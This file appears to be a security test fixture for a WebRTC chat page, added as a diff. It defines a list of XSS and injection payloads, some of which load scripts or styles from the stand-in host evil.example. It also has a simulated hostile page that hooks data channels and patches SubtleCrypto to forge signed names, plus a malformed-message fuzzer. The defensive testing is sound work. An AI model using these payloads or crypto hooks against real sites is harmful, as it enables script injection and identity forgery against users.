@@ -1,0 +1,168 @@
+// Somebody who holds the link and means harm: a page of ours that says whatever it is told to. And what no page may do or
+// become whatever it is told: run, load or show as anything but text what came from outside.
+
+/** Text that would be more than text on a careless page. What runs sets `broken_in`. */
+export const payloads = [
+  '<img src=x onerror=broken_in=1>',
+  '<svg/onload=broken_in=2>',
+  '"><script>broken_in=3</script>',
+  '\' onmouseover=\'broken_in=4',
+  '</span></p></li><script src=//evil.example/x.js></script>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=broken_in=5&gt;">',
+  '<a href="javascript:broken_in=6">x</a>',
+  '<base href="//evil.example/">',
+  '<meta http-equiv=refresh content="0;url=//evil.example/">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<iframe srcdoc="<script>parent.broken_in=7</script>"></iframe>',
+  '<style>*{display:none}</style>',
+  '<template shadowrootmode=open><script>broken_in=8</script></template>',
+  '--></title></textarea></noscript><script>broken_in=9</script>',
+  ']]><![CDATA[<script>broken_in=10</script>',
+  '{{constructor.constructor("broken_in=11")()}}',
+  '${broken_in=12} #{broken_in=13} <%= broken_in=14 %>',
+  '%3Cimg%20src%3Dx%20onerror%3Dbroken_in%3D15%3E',
+  '&lt;script&gt;broken_in=16&lt;/script&gt; &#60;b&#62; \\u003cb\\u003e \\x3cb\\x3e',
+  'javascript:broken_in=17//',
+  'JaVaScRiPt:broken_in=18 java\tscript:broken_in=19 vbscript:x',
+  'data:text/html,<script>broken_in=20</script> blob:null/x file:///etc/passwd view-source:x',
+  'https://a.example/"onmouseover="broken_in=21 http://a.example/<script>broken_in=22</script>',
+  'https://javascript:broken_in=23@a.example/ https://a.example\\@evil.example/ http://',
+  'mailto:a@b.example?subject=<b>&body=%0d%0abcc:c@d.example',
+  '\u202egnp.exe \u2066\u2067\u2068x \u202dhttps://moc.elpmaxe\u202c',
+  '\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u{e0041}\u{e007f}',
+  '\u0001\u0007\u001b[31mred\u001b[0m\u007f\u0085\u009b',
+  `Z${'\u0300\u0489\u20dd'.repeat(200)}`,
+  '__proto__ constructor toString [object Object] undefined null NaN',
+  '\n'.repeat(600) + 'below',
+  'W'.repeat(10_000),
+  '\u{1f3f4}\u{e0067}\u{e007f}'.repeat(2_000),
+  '\u0645\u0631\u062d\u0628\u0627 <b>\u0628\u0627\u0644\u0639\u0627\u0644\u0645</b>',
+  'http://a.example '.repeat(580),
+];
+
+/** The same as names: 32 characters, 128 bytes. */
+export const name_payloads = payloads.map(it => [...it.trim()].slice(0, 24).join('')).filter((it, at, all) => it.trim() && all.indexOf(it) === at);
+
+/** What stands for the name in what this page signs and seals. Exactly as long as `forged_name` makes it. */
+export const placeholder = 'N'.repeat(32);
+
+/** A name as JSON text of as many bytes as the placeholder. @param {string} name */
+export function forged_name(name) {
+  const text = JSON.stringify(name).slice(1, -1);
+  const missing = placeholder.length - Buffer.byteLength(text);
+  return missing < 0 ? null : text + '.'.repeat(missing);
+}
+
+/**
+ * Before the scripts of a hostile page: its channels are at hand, and its name goes out as it is, cleaned by nobody.
+ * @param {string | null} name  of forged_name
+ */
+export const hostile_source = name => `(${hostile_page})(${JSON.stringify(placeholder)}, ${JSON.stringify(name)});`;
+
+/** Runs in the page. */
+function hostile_page(placeholder, name) {
+  globalThis.channels = [];
+  const create = RTCPeerConnection.prototype.createDataChannel;
+  RTCPeerConnection.prototype.createDataChannel = function (...how) {
+    const channel = create.apply(this, how);
+    globalThis.channels.push(channel);
+    return channel;
+  };
+  if (name) {
+    const [from, to] = [placeholder, name].map(it => new TextEncoder().encode(it));
+    const falsified = bytes => {
+      const all = new Uint8Array(bytes.buffer ?? bytes).slice(bytes.byteOffset ?? 0, (bytes.byteOffset ?? 0) + bytes.byteLength);
+      for (let at = 0; at + from.length <= all.length; at += 1) if (from.every((byte, k) => all[at + k] === byte)) all.set(to, at);
+      return all;
+    };
+    for (const [what, place] of [['sign', 2], ['encrypt', 2], ['verify', 3]]) {
+      const really = SubtleCrypto.prototype[what];
+      SubtleCrypto.prototype[what] = function (...given) {
+        given[place] = falsified(given[place]);
+        return really.apply(this, given);
+      };
+    }
+  }
+
+  /** Says these texts to everybody, as fast as the channels take them. @param {string[]} texts */
+  globalThis.say_raw = async texts => {
+    for (const text of texts) {
+      for (const channel of globalThis.channels) {
+        while (channel.readyState === 'open' && channel.bufferedAmount > 1_000_000) await new Promise(resolve => setTimeout(resolve, 5));
+        if (channel.readyState === 'open') channel.send(text);
+      }
+    }
+  };
+}
+
+/** A line of the conversation as it goes over the channel. */
+export const line = (number, text, stamp = Date.now()) => JSON.stringify({ is: 'line', number, stamp, text });
+
+/**
+ * Nonsense of all kinds, always the same, between lines that can be read. No goodbye, and no new connection: those would only
+ * end the story.
+ * @param {number} count  of words
+ * @param {number} before  how many lines were said already
+ * @returns {{words: string[], lines: number}}  `lines`: how many have been said when all of it is
+ */
+export function nonsense(count, before) {
+  let seed = 20_260_101;
+  const below = limit => {
+    seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
+    return Math.floor((seed / 2 ** 32) * limit);
+  };
+  const one_of = list => list[below(list.length)];
+  const odd = () => one_of([null, true, -1, 1.5, 1e300, 2 ** 53 + 2, '', '1', [], {}, [[]], { is: 'line' }, 'x'.repeat(below(200)), payloads[below(12)]]);
+  let lines = before;
+  const kinds = [
+    () => String.fromCodePoint(...Array.from({ length: 1 + below(60) }, () => below(0xd800))),
+    () => line(lines + 1, 'cut off').slice(0, below(40)),
+    () => '['.repeat(below(400)) + ']'.repeat(below(400)),
+    () => '{"is":'.repeat(below(80)),
+    () => JSON.stringify(odd()),
+    () => JSON.stringify({ is: one_of(['line', 'have', 'status', 'offer', 'answer', 'candidate', 'again', 'tampered', 'nothing', '__proto__']), [one_of(['number', 'lines', 'link', 'text'])]: odd() }),
+    () => JSON.stringify({ is: 'line', number: odd(), stamp: odd(), text: odd() }),
+    () => `{"is":"line","number":${one_of(['0', '-0', '1e999', '18446744073709551616', '0x1', '01'])},"stamp":1,"text":"x"}`,
+    () => line(one_of([lines, lines + 2, 2 ** 40]), 'out of turn'),
+    () => JSON.stringify({ is: 'have', lines: one_of([0, 1, 2 ** 53, -1, below(1e6)]) }),
+    () => JSON.stringify({ is: 'status', in_call: odd(), microphone: odd(), camera: odd(), screen: odd() }),
+    () => JSON.stringify({ is: 'candidate', link: below(3), candidate: payloads[below(12)], mid: String(below(9)), line: below(70) }),
+    () => JSON.stringify({ is: one_of(['offer', 'answer']), link: below(3), sdp: `v=0\r\na=fingerprint:${payloads[below(12)]}` }),
+  ];
+  const words = Array.from({ length: count }, (_, at) => {
+    if (at % 1_000 === 999) return 'x'.repeat(120_000);
+    if (at % 250 === 0) return JSON.stringify({ is: 'status', in_call: at % 500 === 0, microphone: true, camera: true, screen: at % 500 === 0 });
+    if (at % 16 !== 0) return one_of(kinds)();
+    lines += 1;
+    return line(lines, payloads[lines - before - 1] ?? `${one_of(payloads.slice(0, 30))} ${lines}`, one_of([0, Date.now(), Date.now() + below(1e6), 2 ** 53]));
+  });
+  return { words, lines };
+}
+
+/** Before the scripts of an honest page: writes down what its rules of content security refused. */
+export function watchful() {
+  globalThis.violations = [];
+  addEventListener('securitypolicyviolation', it => globalThis.violations.push(`${it.violatedDirective} ${it.blockedURI}`));
+}
+
+/**
+ * What a page is made of: each kind of element with the names of its attributes (but for those by which it says its state), and the
+ * schemes of what it refers to. The same whatever anybody says.
+ */
+export const shape_of = person =>
+  person.page.evaluate(() => {
+    const kinds = new Set();
+    for (const at of document.querySelectorAll('*')) {
+      kinds.add(at.localName);
+      for (const { name, value } of at.attributes) {
+        // (The rules of content security refuse a style that stands in markup, and say so.)
+        if (/^(data-|aria-|(style|hidden|tabindex|disabled)$)/.test(name)) continue;
+        kinds.add(`${at.localName}[${name}]`);
+        // What is no address leads nowhere.
+        if (['href', 'src', 'srcdoc', 'action', 'formaction', 'poster', 'data', 'srcset', 'xlink:href'].includes(name) && URL.canParse(value, location.href)) {
+          kinds.add(`${at.localName}[${name}] ${value.startsWith('#') ? '#' : new URL(value, location.href).protocol}`);
+        }
+      }
+    }
+    return [...kinds];
+  });
